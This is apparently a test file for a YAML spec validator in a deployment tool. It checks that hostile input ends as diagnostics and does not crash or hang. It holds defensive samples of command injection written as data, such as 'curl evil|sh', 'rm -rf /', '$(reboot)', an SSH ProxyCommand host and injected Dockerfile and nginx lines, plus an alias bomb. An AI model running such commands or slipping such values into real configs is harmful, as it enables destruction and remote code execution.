import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  type Code,
  type Diagnostic,
  formatDiagnostic,
  hasControl,
  LIMITS,
  loadSpecFile,
  loadSpecText,
} from '../../src/spec/index.ts';
import { checkServices } from '../../src/spec/rules/services.ts';
import { diagnose, ONE_PROJECT } from './one-project.ts';

/**
 * A spec often arrives in a pull request: whatever it holds must end as diagnostics with a code
 * and a position (exit 2), never a crash, exit 1 or a hang.
 */

const root = join(import.meta.dirname, '..', '..');

/** The one-project spec with room for the services tests add. */
const BASE = ONE_PROJECT.replace('cpus: 4, memory: 8GiB', 'cpus: 8, memory: 16GiB');

function codes(text: string, env?: Record<string, string>): Code[] {
  return diagnose(text, env).map((d) => d.code);
}

/** The one error `text` has, which must be `code`, placed on the line that holds `needle`. */
function refused(text: string, code: Code, needle?: string, env?: Record<string, string>): Diagnostic {
  const ds = diagnose(text, env);
  assert.deepEqual(
    ds.map((d) => d.code),
    [code],
    ds.map(formatDiagnostic).join('\n'),
  );
  const d = ds[0]!;
  if (needle) {
    const line = text.split('\n').findIndex((l) => l.includes(needle)) + 1;
    assert.equal(d.line, line, `${formatDiagnostic(d)}\nexpected on line ${line}`);
  }
  assert.ok(d.file && d.line && d.column, 'placed');
  return d;
}

function timed<T>(f: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = f();
  return { value, ms: performance.now() - start };
}

function stagecraft(args: string[], cwd = root) {
  const r = spawnSync(join(root, 'bin', 'stagecraft'), args, {
    cwd,
    encoding: 'utf8',
    timeout: 20_000,
    env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/root' },
  });
  return { code: r.status, signal: r.signal, out: r.stdout, err: r.stderr };
}

describe('YAML that attacks the parser', () => {
  it('an alias bomb (billion laughs) is refused before it is expanded', () => {
    const levels = ['a: &a [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 9; i++) {
      const prev = String.fromCharCode(96 + i);
      const name = String.fromCharCode(97 + i);
      levels.push(`${name}: &${name} [${Array(10).fill(`*${prev}`).join(', ')}]`);
    }
    const text = `${BASE}x-bomb:\n${levels.map((l) => `  ${l}`).join('\n')}\n`;
    const { value, ms } = timed(() => codes(text));
    assert.deepEqual(value, ['SC0114']);
    assert.ok(ms < 2000, `${ms} ms`);
  });

  it('more aliases than the limit', () => {
    const many = Array(LIMITS.aliases + 1)
      .fill('*v')
      .join(', ');
    const text = BASE.replace(
      '        image: shop:1',
      `        image: &v shop:1\n        labels: { x: [${many}] }`,
    );
    assert.ok(codes(text).includes('SC0115'));
  });

  it('an alias with no anchor, at the alias', () => {
    refused(BASE.replace('image: shop:1', 'image: *shopimage'), 'SC0113', '*shopimage');
  });

  it('an alias inside its own anchor', () => {
    refused(
      BASE.replace('        uses: [db]', '        labels: &self { a: *self }\n        uses: [db]'),
      'SC0119',
      '*self',
    );
  });

  it('a merge key that merges no mapping', () => {
    refused(BASE.replace('        uses: [db]', '        uses: [db]\n        <<: 5'), 'SC0116', '<<: 5');
    refused(
      BASE.replace('        uses: [db]', '        uses: [db]\n        <<: [*nothing]'),
      'SC0113',
      '*nothing',
    );
    const merged = BASE.replace(
      '      db:\n        type: postgres\n',
      '      db: &db\n        type: postgres\n      db2:\n        <<: *db\n',
    );
    assert.deepEqual(codes(merged), [], 'a merge of a mapping is fine');
  });

  it('a key that is a list or a mapping', () => {
    refused(
      BASE.replace('        uses: [db]', '        uses: [db]\n        ? [a, b]\n        : 1'),
      'SC0118',
    );
  });
});

describe('the spec path', () => {
  const dir = mkdtempSync(join(tmpdir(), 'stagecraft-hostile-'));

  it('a directory is named as one', () => {
    mkdirSync(join(dir, 'folder.yaml'));
    const r = loadSpecFile(join(dir, 'folder.yaml'), {});
    assert.deepEqual(
      r.diagnostics.map((d) => d.code),
      ['SC0102'],
    );
    const cli = stagecraft(['validate', join(dir, 'folder.yaml')]);
    assert.equal(cli.code, 2, cli.err);
    assert.match(cli.err, /folder\.yaml: error SC0102: /);
  });

  it('a named pipe with no writer is refused at once, not read forever', () => {
    const fifo = join(dir, 'pipe.yaml');
    assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
    const { value, ms } = timed(() => loadSpecFile(fifo, {}));
    assert.deepEqual(
      value.diagnostics.map((d) => d.code),
      ['SC0103'],
    );
    assert.match(value.diagnostics[0]!.message, /named pipe/);
    assert.ok(ms < 1000, `${ms} ms`);
    const cli = stagecraft(['validate', fifo]);
    assert.equal(cli.signal, null, 'did not hang');
    assert.equal(cli.code, 2, cli.err);
  });

  it('a symbolic link that loops, and one that leads nowhere', () => {
    symlinkSync(join(dir, 'loop-b.yaml'), join(dir, 'loop-a.yaml'));
    symlinkSync(join(dir, 'loop-a.yaml'), join(dir, 'loop-b.yaml'));
    symlinkSync(join(dir, 'absent.yaml'), join(dir, 'dangling.yaml'));
    const loop = loadSpecFile(join(dir, 'loop-a.yaml'), {}).diagnostics;
    assert.deepEqual(
      loop.map((d) => d.code),
      ['SC0105'],
    );
    assert.match(loop[0]!.message, /loops/);
    const dangling = loadSpecFile(join(dir, 'dangling.yaml'), {}).diagnostics;
    assert.deepEqual(
      dangling.map((d) => d.code),
      ['SC0105'],
    );
    const cli = stagecraft(['validate', join(dir, 'loop-a.yaml')]);
    assert.equal(cli.code, 2, cli.err);
    assert.match(cli.err, /error SC0105: is a symbolic link that loops/);
  });

  it('a file the user may not read (run as nobody: root reads everything)', () => {
    const locked = join(dir, 'locked.yaml');
    writeFileSync(locked, BASE);
    chmodSync(locked, 0o000);
    chmodSync(dir, 0o755);
    const node = process.execPath;
    const script = `import { loadSpecFile } from ${JSON.stringify(join(root, 'src/spec/index.ts'))};
console.log(loadSpecFile(${JSON.stringify(locked)}, {}).diagnostics.map((d) => d.code).join());`;
    const r = spawnSync(
      'setpriv',
      ['--reuid=65534', '--regid=65534', '--clear-groups', node, '--input-type=module', '-e', script],
      {
        encoding: 'utf8',
      },
    );
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim(), 'SC0104');
  });

  it('names the file as the user gave it', () => {
    const file = join(dir, 'named.yaml');
    writeFileSync(file, BASE);
    const r = loadSpecFile(file, {}, 'named.yaml');
    assert.ok(r.spec);
    assert.equal(r.source.file, 'named.yaml');
    assert.equal(
      loadSpecFile(join(dir, 'folder.yaml'), {}, 'folder.yaml').diagnostics[0]!.file,
      'folder.yaml',
    );
  });

  it('a file larger than the limit, and one that is not UTF-8', () => {
    const big = join(dir, 'big.yaml');
    writeFileSync(big, `${BASE}# ${'x'.repeat(LIMITS.fileBytes)}\n`);
    assert.deepEqual(
      loadSpecFile(big, {}).diagnostics.map((d) => d.code),
      ['SC0106'],
    );
    const latin1 = join(dir, 'latin1.yaml');
    writeFileSync(latin1, Buffer.concat([Buffer.from(BASE), Buffer.from([0x23, 0x20, 0xe9, 0x0a])]));
    assert.deepEqual(
      loadSpecFile(latin1, {}).diagnostics.map((d) => d.code),
      ['SC0107'],
    );
  });
});

describe('size', () => {
  it('a mapping of tens of thousands of keys is checked in linear time', () => {
    const env = (n: number) =>
      BASE.replace(
        '        uses: [db]',
        `        uses: [db]\n        env:\n${Array.from({ length: n }, (_, i) => `          K${i}: v`).join('\n')}`,
      );
    // Ten times the keys: linear is about 10× the time, the parser's own duplicate check was 100×.
    const small = Math.min(timed(() => codes(env(1_000))).ms, timed(() => codes(env(1_000))).ms);
    const large = timed(() => codes(env(LIMITS.mappingKeys + 1)));
    assert.deepEqual(large.value, ['SC0902']);
    assert.ok(large.ms < small * 30, `1,000 keys ${small} ms, 10,000 keys ${large.ms} ms`);
    assert.deepEqual(codes(env(LIMITS.mappingKeys)), []);
  });

  it('a uses chain of thousands does not overflow the stack, and is refused past the limit', () => {
    const chain = (n: number) => {
      const services = Array.from(
        { length: n },
        (_, i) =>
          `      s${i}: { type: app, image: x:1, routes: [], uses: [${i + 1 < n ? `s${i + 1}` : ''}] }`,
      );
      return `version: 1\nserver:\n  domain: example.test\n  capacity: { cpus: 100000, memory: 100000GiB }\nnetwork: { projects: 10.0.0.0/8, projectSize: 8 }\nports: { app: { from: 10000, to: 30000 } }\nprojects:\n  p:\n    services:\n${services.join('\n')}\n`;
    };
    const long = loadSpecText('staging.yaml', chain(7000), {});
    assert.deepEqual(
      long.diagnostics.map((d) => d.code),
      ['SC0903'],
    );
    assert.ok(loadSpecText('staging.yaml', chain(LIMITS.usesChain), {}).spec, 'a chain at the limit is fine');
  });

  it('more services than the limit', () => {
    const spec = loadSpecText('staging.yaml', BASE, {}).spec!;
    const web = spec.projects[0]!.services[0]!;
    const many = (n: number) => ({
      ...spec,
      projects: [
        { ...spec.projects[0]!, services: Array.from({ length: n }, (_, i) => ({ ...web, name: `s${i}` })) },
      ],
    });
    assert.deepEqual(
      checkServices(many(LIMITS.services + 1)).map((d) => d.code),
      ['SC0901'],
    );
    assert.deepEqual(checkServices(many(LIMITS.services)), []);
  });

  it('a text value longer than the limit', () => {
    refused(
      BASE.replace('image: shop:1', `image: shop:1\n        command: "${'x'.repeat(LIMITS.textLength + 1)}"`),
      'SC0904',
    );
  });
});

describe('${VAR}', () => {
  it('is filled before duplicate keys are checked: a key that becomes an existing name is refused', () => {
    const text = `${BASE}  \${OTHER}:\n    services:\n      site: { type: app, image: blog:1 }\n`;
    refused(text, 'SC0111', '${OTHER}', { OTHER: 'shop' });
    assert.deepEqual(codes(text, { OTHER: 'blog' }), []);
  });

  it('nested defaults work as in compose', () => {
    const text = BASE.replace('image: shop:1', 'image: shop:${TAG:-${FALLBACK:-latest}}');
    const image = (env: Record<string, string>) => {
      const r = loadSpecText('staging.yaml', text, env);
      assert.ok(r.spec, r.diagnostics.map(formatDiagnostic).join('\n'));
      return r.spec.projects[0]!.services.find((s) => s.name === 'web')!.image;
    };
    assert.equal(image({}), 'shop:latest');
    assert.equal(image({ FALLBACK: 'v2' }), 'shop:v2');
    assert.equal(image({ TAG: 'v3' }), 'shop:v3');
    assert.equal(image({ TAG: '' }), 'shop:latest');
    const unset = BASE.replace('image: shop:1', 'image: shop:1\n        env: { V: "x${TAG-none}" }');
    assert.equal(loadSpecText('s', unset, { TAG: '' }).spec?.projects[0]?.services[0]?.env.V, 'x');
    assert.equal(loadSpecText('s', unset, {}).spec?.projects[0]?.services[0]?.env.V, 'xnone');
    const literal = loadSpecText(
      's',
      BASE.replace('image: shop:1', () => 'image: shop:1\n        env: { V: "$${TAG}x" }'),
      {},
    );
    assert.equal(literal.spec?.projects[0]?.services[0]?.env.V, '${TAG}x');
  });

  it('an unclosed ${ and a reference that is not a name are errors, never literal text', () => {
    refused(BASE.replace('image: shop:1', 'image: shop:${TAG'), 'SC0203', 'shop:${TAG');
    refused(BASE.replace('image: shop:1', 'image: shop:${TAG:-${X}'), 'SC0203', 'shop:${TAG');
    refused(BASE.replace('image: shop:1', 'image: shop:${1TAG}'), 'SC0202', 'shop:${1TAG}');
    refused(BASE.replace('image: shop:1', 'image: shop:${TAG:?required}'), 'SC0202', 'shop:${TAG');
  });
});

describe('values that validated and then broke something', () => {
  it('a shared network too small for the shared stack', () => {
    refused(
      BASE.replace('projects:\n  shop', 'network: { shared: 172.19.0.0/32 }\nprojects:\n  shop'),
      'SC0507',
      'network:',
    );
    assert.deepEqual(
      codes(BASE.replace('projects:\n  shop', 'network: { shared: 172.19.0.0/28 }\nprojects:\n  shop')),
      [],
    );
  });

  it('the same port for http and https', () => {
    refused(
      BASE.replace('  domain: example.test', '  domain: example.test\n  listen: { http: 9443, https: 9443 }'),
      'SC0506',
      'listen',
    );
  });

  it('a rate limit nginx cannot hold, and an absurd burst', () => {
    const proxy = (p: string) =>
      BASE.replace('projects:\n  shop', `shared:\n  proxy: { ${p} }\nprojects:\n  shop`);
    refused(proxy('rateLimit: 1/h'), 'SC0310', 'rateLimit');
    refused(proxy('rateLimit: 99999999999/s'), 'SC0310', 'rateLimit');
    refused(proxy('rateLimit: 10/s, burst: 100000000000'), 'SC0305', 'burst');
    assert.deepEqual(codes(proxy('rateLimit: 60/h')), []);
  });

  it('zero or absurd durations for health checks and retention', () => {
    const web = (line: string) => BASE.replace('        uses: [db]', `        uses: [db]\n        ${line}`);
    refused(web('health: { interval: 0s }'), 'SC0309', 'interval');
    refused(web('health: { timeout: 1000000d }'), 'SC0309', 'timeout');
    const prometheus = (r: string) =>
      BASE.replace(
        'projects:\n  shop',
        `shared:\n  monitoring:\n    prometheus: { retention: ${r} }\nprojects:\n  shop`,
      );
    refused(prometheus('0s'), 'SC0309', 'retention');
    refused(prometheus('100000d'), 'SC0309', 'retention');
    assert.deepEqual(codes(prometheus('30d')), []);
  });

  it('volume names that are paths', () => {
    for (const name of ['/etc', '../../etc', '.', 'a b']) {
      refused(
        BASE.replace('        uses: [db]', `        uses: [db]\n        volumes: { "${name}": /data }`),
        'SC0308',
        'volumes',
      );
    }
    refused(
      BASE.replace('        uses: [db]', '        uses: [db]\n        volumes: { media: /app/../../etc }'),
      'SC0308',
      'volumes',
    );
    assert.deepEqual(
      codes(BASE.replace('        uses: [db]', '        uses: [db]\n        volumes: { media: /app/media }')),
      [],
    );
  });

  it('image references, versions and secret names no engine or store accepts', () => {
    // Only the refusal: not also "needs an image or a build" (SC0707) for the image it refused.
    const image = (ref: string, code: Code) =>
      refused(
        BASE.replace('image: shop:1', () => `image: ${ref}`),
        code,
        'image:',
      );
    image('"shop:1\\nFROM evil"', 'SC0308');
    image(`shop${'x'.repeat(100_000)}`, 'SC0904');
    image('"Shop Web"', 'SC0308');
    refused(
      BASE.replace('        type: postgres', '        type: postgres\n        version: "15; rm -rf /"'),
      'SC0308',
      'rm -rf',
    );
    refused(
      BASE.replace('        uses: [db]', `        uses: [db]\n        secrets: [${'A'.repeat(200)}]`),
      'SC0305',
      'secrets',
    );
    refused(
      BASE.replace('        uses: [db]', '        uses: [db]\n        secrets: ["A\\nB"]'),
      'SC0307',
      'secrets',
    );
    for (const image of [
      'registry.example.com:5000/shop/web:1.4',
      'ghcr.io/a/b@sha256:' + 'a'.repeat(64),
      'shop',
    ]) {
      assert.deepEqual(codes(BASE.replace('image: shop:1', `image: ${image}`)), [], image);
    }
  });
});

describe('nothing from the spec reaches a shell or a config unquoted', () => {
  it('paths, URL paths and hosts outside a safe alphabet are refused where they stand', () => {
    refused(
      BASE.replace('  domain: example.test', '  domain: example.test\n  backupDir: /opt/b"$(reboot)"'),
      'SC0308',
      'backupDir',
    );
    const web = (line: string) => BASE.replace('        uses: [db]', `        uses: [db]\n        ${line}`);
    refused(web('health: { path: "/h; curl evil|sh" }'), 'SC0308', 'health');
    refused(web('health: { path: "/h$(id)" }'), 'SC0308', 'health');
    refused(web('routes: [{ path: "/a { return 200; }" }]'), 'SC0308', 'routes');
    refused(web('build: { context: "ctx$(id)" }').replace('        image: shop:1\n', ''), 'SC0308', 'build');
    refused(
      BASE.replace('  domain: example.test', '  domain: example.test\n  host: ssh://-oProxyCommand=id@x'),
      'SC0307',
      'host:',
    );
    refused(
      BASE.replace('  domain: example.test', '  domain: example.test\n  host: "ssh://u@h;id"'),
      'SC0307',
      'host:',
    );
    assert.deepEqual(
      codes(
        BASE.replace(
          '  domain: example.test',
          '  domain: example.test\n  host: ssh://deploy@staging.example.com:2222',
        ),
      ),
      [],
    );
  });
});

describe('output hygiene', () => {
  it('control characters from the spec are shown escaped, never raw', () => {
    const text = BASE.replace('        uses: [db]', '        uses: [db]\n        "evil\\e[2J\\0key": 1');
    const d = refused(text, 'SC0301');
    const shown = formatDiagnostic(d);
    assert.equal(hasControl(shown.replace(/\n/g, ' ')), false, shown);
    assert.match(shown, /\\x1b\[2J\\x00/);
  });

  it('NaN and infinity are named, never "expected a number, got a number"', () => {
    const d = refused(
      BASE.replace('        uses: [db]', '        uses: [db]\n        replicas: .nan'),
      'SC0303',
      'replicas',
    );
    assert.doesNotMatch(d.message, /got a number/);
    assert.match(d.message, /\.nan/);
    assert.match(
      refused(BASE.replace('        uses: [db]', '        uses: [db]\n        port: .inf'), 'SC0303').message,
      /\.inf/,
    );
  });
});
